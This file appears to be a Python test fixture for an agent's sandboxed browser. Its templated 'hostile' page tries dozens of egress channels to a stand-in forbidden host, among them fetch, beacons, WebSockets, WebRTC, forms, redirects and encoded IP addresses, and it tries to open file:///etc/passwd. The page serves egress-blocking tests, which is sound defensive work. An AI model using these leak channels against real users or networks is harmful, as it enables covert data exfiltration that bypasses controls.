"""A page that tries every way out it can think of, and the servers that see which of them leads somewhere.

`OK` is what an agent may open; everything else must not be reached. Each way asks for a path of its own name.
"""

PAGE = """<!doctype html><title>hostile</title>
<link rel="icon" href="%(bad)s/icon">
<link rel="stylesheet" href="%(bad)s/stylesheet">
<link rel="prefetch" href="%(bad)s/prefetch">
<link rel="preload" as="fetch" crossorigin href="%(bad)s/preload">
<link rel="modulepreload" href="%(bad)s/modulepreload">
<link rel="preconnect" href="%(bad_tls)s">
<link rel="dns-prefetch" href="http://leak-by-name.invalid">
<link rel="manifest" href="%(bad)s/manifest">
<style>
  @font-face { font-family: far; src: url(%(bad)s/font) }
  p { font-family: far; background: url(%(bad)s/css) }
</style>
<p>hostile</p>
<img src="%(bad)s/img">
<img src="%(hex)s/hex">
<img src="%(decimal)s/decimal">
<img src="%(short)s/short">
<img src="%(mapped)s/mapped">
<img src="%(named)s/named">
<img src="%(local)s/localhost">
<img src="http://leak-by-name.invalid/">
<img src="/redirect?to=%(bad)s/redirected-img">
<iframe src="%(bad)s/iframe"></iframe>
<iframe src="/redirect?to=%(bad)s/redirected-iframe"></iframe>
<iframe src="/policy"></iframe>
<iframe srcdoc='<meta http-equiv="refresh" content="0;url=%(bad)s/refresh">'></iframe>
<iframe src="file:///etc/passwd"></iframe>
<iframe src="chrome://version"></iframe>
<iframe src="view-source:%(bad)s/view-source"></iframe>
<object data="%(bad)s/object"></object>
<embed src="%(bad)s/embed">
<video src="%(bad)s/video" preload="auto"></video>
<audio src="%(bad)s/audio" preload="auto"></audio>
<svg><image href="%(bad)s/svg"/></svg>
<script src="%(bad)s/script"></script>
<iframe name="posted"></iframe><iframe name="got"></iframe>
<form id="post" method="post" action="%(bad)s/form-post" target="posted"><input name="a" value="b"></form>
<form id="get" action="%(bad)s/form-get" target="got"><input name="a" value="b"></form>
<a id="ping" href="#pinged" ping="%(bad)s/ping">ping</a>
<iframe src="%(bad)s/download"></iframe>
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["%(bad)s/speculation"]}]}</script>
<script>
const BAD = '%(bad)s';
const quiet = async (work) => { try { await work() } catch {} };
quiet(() => fetch(BAD + '/fetch', {mode: 'no-cors'}));
quiet(() => fetch('/redirect?to=' + BAD + '/redirected-fetch', {mode: 'no-cors'}));
quiet(() => fetch(BAD + '/keepalive', {mode: 'no-cors', keepalive: true}));
quiet(() => fetch('%(bad_tls)s/tls', {mode: 'no-cors'}));
quiet(() => fetch('%(named_tls)s/named-tls', {mode: 'no-cors'}));
quiet(() => { const x = new XMLHttpRequest(); x.open('POST', BAD + '/xhr'); x.send('a') });
quiet(() => { window.events = new EventSource(BAD + '/sse') });
quiet(() => { window.socket = new WebSocket(BAD.replace('http', 'ws') + '/ws') });
quiet(() => { window.secure = new WebSocket('%(bad_tls)s'.replace('https', 'wss') + '/wss') });
quiet(() => navigator.sendBeacon(BAD + '/beacon', 'a'));
quiet(() => { window.worker = new Worker('/worker.js') });
quiet(() => { window.shared = new SharedWorker('/shared.js') });
quiet(() => navigator.serviceWorker.register('/service.js'));
quiet(() => window.open(BAD + '/popup'));
quiet(() => window.open('view-source:' + BAD + '/view-source-popup'));
quiet(() => window.open('file:///etc/passwd'));
quiet(() => new Image().src = '%(second)s/second-address');
quiet(() => post.submit());
quiet(() => get.submit());
quiet(() => ping.click());
for (const at of %(udp)s) {
  quiet(() => new WebTransport('https://' + at + '/webtransport').ready);
  quiet(() => {
    const servers = [{urls: 'stun:' + at}, {urls: 'turn:' + at, username: 'a', credential: 'b'},
                     {urls: 'turn:%(turn)s?transport=tcp', username: 'a', credential: 'b'}];
    const peer = new RTCPeerConnection({iceServers: servers});
    (window.peers ||= []).push(peer);
    peer.createDataChannel('out');
    peer.onicecandidate = () => 0;
    return peer.createOffer().then(async (offer) => {
      await peer.setLocalDescription(offer);
      const [host, port] = at.split(':'), other = new RTCPeerConnection();
      window.peers.push(other);
      other.createDataChannel('back');
      await other.setRemoteDescription(offer);
      const answer = await other.createAnswer();
      await other.setLocalDescription(answer);
      await peer.setRemoteDescription(answer);
      await peer.addIceCandidate({candidate: `candidate:1 1 udp 2122260223 ${host} ${port} typ host`, sdpMid: '0'});
    });
  });
}
quiet(() => fetch('/allowed-fetch'));
quiet(() => fetch('%(ok_tls)s/allowed-tls', {mode: 'no-cors'}));
quiet(() => { window.fine = new WebSocket('ws://' + location.host + '/allowed-ws') });
setTimeout(() => { location.href = '/redirect?to=' + BAD + '/redirected-page' }, 5000);
</script>"""
WORKER = "fetch('{bad}/{name}-fetch', {{mode: 'no-cors'}}).catch(() => 0);\nnew WebSocket('{ws}/{name}-ws');"
EXPECTED = frozenset(
    {
        *("img", "iframe", "fetch", "sse", "ws", "worker-fetch", "worker-ws", "shared-fetch", "shared-ws", "popup"),
        *("prefetch", "redirected-img", "redirected-iframe", "redirected-fetch", "redirected-page", "hex", "decimal"),
        *("short", "mapped", "named", "localhost", "form-post", "form-get", "ping", "beacon", "xhr", "script"),
        *("stylesheet", "refresh", "keepalive", "tls", "named-tls", "policy-report", "second-address", "object"),
        *("service-fetch", "download"),
    }
)
"""Ways that lead somewhere in a Chromium that nothing holds back: so the page does try them."""
ALLOWED = frozenset({"allowed-fetch", "allowed-tls", "allowed-ws"})
